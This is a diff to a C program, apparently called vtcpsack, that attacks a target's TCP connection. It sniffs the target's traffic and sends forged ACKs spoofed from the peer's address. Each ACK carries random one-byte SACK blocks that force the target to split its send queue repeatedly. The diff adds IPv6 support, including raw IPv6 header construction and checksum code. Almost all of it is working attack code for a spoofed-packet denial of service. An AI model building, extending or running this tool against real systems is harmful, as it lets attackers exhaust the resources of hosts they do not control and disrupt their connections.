@@ -8,7 +8,8 @@
  *
  * It watches the target's data on DEV (an AF_PACKET socket) and, RATE
  * times a second, sends an ACK from PEER (IP_HDRINCL, TTL 33, so that a
- * tc filter can drop the real peer's own ACKs and keep these): the
+ * tc filter can drop the real peer's own ACKs and keep these; over IPv6,
+ * if PEER and TARGET are IPv6 addresses, hop limit 33): the
  * cumulative ACK moves STEP bytes on, never past what the target sent,
  * and BLOCKS fresh 1-byte SACK blocks land at random above it, each of
  * which costs the target two splits of its queue. The window offered is
@@ -24,6 +25,7 @@
 #include <net/if.h>
 #include <netinet/in.h>
 #include <netinet/ip.h>
+#include <netinet/ip6.h>
 #include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -42,7 +44,9 @@
 #define TICK		0.005	/* seconds */
 
 struct attack {
-	uint32_t peer, target;		/* network order */
+	int family;			/* AF_INET or AF_INET6 */
+	unsigned int alen;		/* an address's bytes: 4 or 16 */
+	uint8_t peer[16], target[16];	/* network order */
 	uint16_t peer_port, target_port;
 	int proto;
 	/* What the target's segments told. */
@@ -94,25 +98,39 @@ static uint16_t get16(const uint8_t *p)
 /* The target's segment in @frame: what it sent, and what it acknowledged. */
 static void learn(struct attack *a, const uint8_t *frame, ssize_t n)
 {
-	const struct iphdr *ip = (const void *)(frame + ETH_HLEN);
-	const uint8_t *th;
-	unsigned int ihl, doff, tot;
+	const uint8_t *ip = frame + ETH_HLEN, *th;
+	unsigned int ihl, doff, len;
 	uint32_t seq, end;
 
-	if (n < ETH_HLEN + 40 || ip->protocol != a->proto ||
-	    ip->saddr != a->target || ip->daddr != a->peer)
-		return;
-	ihl = ip->ihl * 4;
-	th = frame + ETH_HLEN + ihl;
-	if (ihl < 20 || n < ETH_HLEN + ihl + 20 ||
+	if (a->family == AF_INET6) {
+		/* Next header ours: no extension headers in between. */
+		if (n < ETH_HLEN + 40 + 20 || get16(frame + 12) != ETH_P_IPV6 ||
+		    ip[6] != a->proto || memcmp(ip + 8, a->target, 16) ||
+		    memcmp(ip + 24, a->peer, 16))
+			return;
+		ihl = 40;
+		len = get16(ip + 4);
+	} else {
+		const struct iphdr *ip4 = (const void *)ip;
+
+		if (n < ETH_HLEN + 40 || ip4->protocol != a->proto ||
+		    memcmp(&ip4->saddr, a->target, 4) ||
+		    memcmp(&ip4->daddr, a->peer, 4))
+			return;
+		ihl = ip4->ihl * 4;
+		if (ihl < 20)
+			return;
+		len = ntohs(ip4->tot_len);
+		len = len > ihl ? len - ihl : 0;
+	}
+	th = ip + ihl;
+	if (n < ETH_HLEN + ihl + 20 ||
 	    get16(th) != a->target_port || get16(th + 2) != a->peer_port ||
 	    (th[13] & (SYN_FLAG | RST_FLAG)))
 		return;
 	doff = (th[12] >> 4) * 4;
-	tot = ntohs(ip->tot_len);
 	seq = get32(th + 4);
-	end = seq + (tot > ihl + doff ? tot - ihl - doff : 0) +
-	      !!(th[13] & FIN_FLAG);
+	end = seq + (len > doff ? len - doff : 0) + !!(th[13] & FIN_FLAG);
 	if (!a->known) {
 		a->una = seq;
 		a->hi = seq;
@@ -134,11 +152,12 @@ static void drain(int pfd, struct attack *a)
 		learn(a, frame, n);
 }
 
-static int open_watch(const char *dev)
+static int open_watch(const char *dev, int family)
 {
+	uint16_t type = htons(family == AF_INET6 ? ETH_P_IPV6 : ETH_P_IP);
 	struct sockaddr_ll sll = { .sll_family = AF_PACKET,
-				   .sll_protocol = htons(ETH_P_IP) };
-	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
+				   .sll_protocol = type };
+	int fd = socket(AF_PACKET, SOCK_RAW, type);
 
 	if (fd < 0)
 		die("socket(AF_PACKET)");
@@ -161,18 +180,26 @@ static uint32_t sum16(const uint8_t *p, size_t n, uint32_t sum)
 	return sum;
 }
 
+/* Over the pseudo-header of the family: IPv4's 12 bytes, IPv6's 40. */
 static uint16_t checksum(const struct attack *a, const uint8_t *seg,
 			 size_t len)
 {
-	uint8_t ph[12];
+	uint8_t ph[40] = { 0 };
+	unsigned int n = 2 * a->alen;
 	uint32_t sum;
 
-	memcpy(ph, &a->peer, 4);
-	memcpy(ph + 4, &a->target, 4);
-	ph[8] = 0;
-	ph[9] = a->proto;
-	put16(ph + 10, len);
-	sum = sum16(seg, len, sum16(ph, sizeof(ph), 0));
+	memcpy(ph, a->peer, a->alen);
+	memcpy(ph + a->alen, a->target, a->alen);
+	if (a->family == AF_INET6) {
+		put32(ph + n, len);
+		ph[n + 7] = a->proto;
+		n += 8;
+	} else {
+		ph[n + 1] = a->proto;
+		put16(ph + n + 2, len);
+		n += 4;
+	}
+	sum = sum16(seg, len, sum16(ph, n, 0));
 	while (sum >> 16)
 		sum = (sum & 0xffff) + (sum >> 16);
 	return ~sum;
@@ -205,11 +232,11 @@ static unsigned int pick_blocks(const struct attack *a, unsigned int want,
 
 static void send_ack(int rfd, struct attack *a, unsigned int blocks)
 {
-	uint8_t pkt[20 + 20 + 4 + 8 * MAX_BLOCKS] = { 0 };
-	struct sockaddr_in to = { .sin_family = AF_INET,
-				  .sin_addr.s_addr = a->target };
-	struct iphdr *ip = (struct iphdr *)pkt;
-	uint8_t *th = pkt + 20, *o = th + 20;
+	uint8_t pkt[40 + 20 + 4 + 8 * MAX_BLOCKS] = { 0 };
+	struct sockaddr_in6 to6 = { .sin6_family = AF_INET6 };
+	struct sockaddr_in to = { .sin_family = AF_INET };
+	unsigned int ihl = a->family == AF_INET6 ? 40 : 20;
+	uint8_t *th = pkt + ihl, *o = th + 20;
 	uint32_t off[MAX_BLOCKS];
 	unsigned int i, n, len;
 
@@ -236,16 +263,36 @@ static void send_ack(int rfd, struct attack *a, unsigned int blocks)
 	th[13] = ACK_FLAG;
 	put16(th + 14, 0xffff);
 	put16(th + 16, checksum(a, th, 20 + len));
-	ip->version = 4;
-	ip->ihl = 5;
-	ip->ttl = OUR_TTL;
-	ip->protocol = a->proto;
-	ip->tot_len = htons(40 + len);
-	ip->saddr = a->peer;
-	ip->daddr = a->target;
-	if (sendto(rfd, pkt, 40 + len, 0, (struct sockaddr *)&to,
-		   sizeof(to)) < 0 && errno != ENOBUFS)
-		die("sendto");
+	if (a->family == AF_INET6) {
+		/* IPPROTO_RAW: the header as given (IPV6_HDRINCL). */
+		struct ip6_hdr *ip6 = (struct ip6_hdr *)pkt;
+
+		ip6->ip6_flow = htonl(6 << 28);
+		ip6->ip6_plen = htons(20 + len);
+		ip6->ip6_nxt = a->proto;
+		ip6->ip6_hlim = OUR_TTL;
+		memcpy(&ip6->ip6_src, a->peer, 16);
+		memcpy(&ip6->ip6_dst, a->target, 16);
+		memcpy(&to6.sin6_addr, a->target, 16);
+		if (sendto(rfd, pkt, ihl + 20 + len, 0,
+			   (struct sockaddr *)&to6, sizeof(to6)) < 0 &&
+		    errno != ENOBUFS)
+			die("sendto");
+	} else {
+		struct iphdr *ip = (struct iphdr *)pkt;
+
+		ip->version = 4;
+		ip->ihl = 5;
+		ip->ttl = OUR_TTL;
+		ip->protocol = a->proto;
+		ip->tot_len = htons(40 + len);
+		memcpy(&ip->saddr, a->peer, 4);
+		memcpy(&ip->daddr, a->target, 4);
+		memcpy(&to.sin_addr, a->target, 4);
+		if (sendto(rfd, pkt, 40 + len, 0, (struct sockaddr *)&to,
+			   sizeof(to)) < 0 && errno != ENOBUFS)
+			die("sendto");
+	}
 	a->acks++;
 }
 
@@ -267,6 +314,16 @@ static void sleep_until(double t)
 		;
 }
 
+/* @s into @addr; its family (AF_INET or AF_INET6), or 0 if neither. */
+static int parse_addr(const char *s, uint8_t *addr)
+{
+	if (inet_pton(AF_INET, s, addr) == 1)
+		return AF_INET;
+	if (inet_pton(AF_INET6, s, addr) == 1)
+		return AF_INET6;
+	return 0;
+}
+
 static void usage(void)
 {
 	fprintf(stderr, "usage: vtcpsack -s PEER -d TARGET -S PEER_PORT "
@@ -281,13 +338,13 @@ int main(int argc, char **argv)
 	unsigned int rate = 2000, step = 300, blocks = 4;
 	double secs = 10, start, next, due = 0;
 	const char *dev = NULL;
-	int c, one = 1, pfd, rfd;
+	int c, one = 1, pfd, rfd, peer_family = 0, target_family = 0;
 	uint32_t before;
 
 	while ((c = getopt(argc, argv, "s:d:S:D:i:t:r:a:b:P:")) != -1) {
 		switch (c) {
-		case 's': a.peer = inet_addr(optarg); break;
-		case 'd': a.target = inet_addr(optarg); break;
+		case 's': peer_family = parse_addr(optarg, a.peer); break;
+		case 'd': target_family = parse_addr(optarg, a.target); break;
 		case 'S': a.peer_port = atoi(optarg); break;
 		case 'D': a.target_port = atoi(optarg); break;
 		case 'i': dev = optarg; break;
@@ -299,13 +356,16 @@ int main(int argc, char **argv)
 		default: usage();
 		}
 	}
-	if (!dev || !a.peer || !a.target || !a.peer_port || !a.target_port ||
-	    !rate || blocks > MAX_BLOCKS)
+	if (!dev || !peer_family || peer_family != target_family ||
+	    !a.peer_port || !a.target_port || !rate || blocks > MAX_BLOCKS)
 		usage();
-	pfd = open_watch(dev);
-	rfd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
-	if (rfd < 0 || setsockopt(rfd, IPPROTO_IP, IP_HDRINCL, &one,
-				  sizeof(one)))
+	a.family = peer_family;
+	a.alen = a.family == AF_INET6 ? 16 : 4;
+	pfd = open_watch(dev, a.family);
+	rfd = socket(a.family, SOCK_RAW, IPPROTO_RAW);
+	if (rfd < 0 || (a.family == AF_INET &&
+			setsockopt(rfd, IPPROTO_IP, IP_HDRINCL, &one,
+				   sizeof(one))))
 		die("raw socket");
 	/* Ticks of TICK seconds, each with its share of the ACKs. */
 	start = next = now_s();
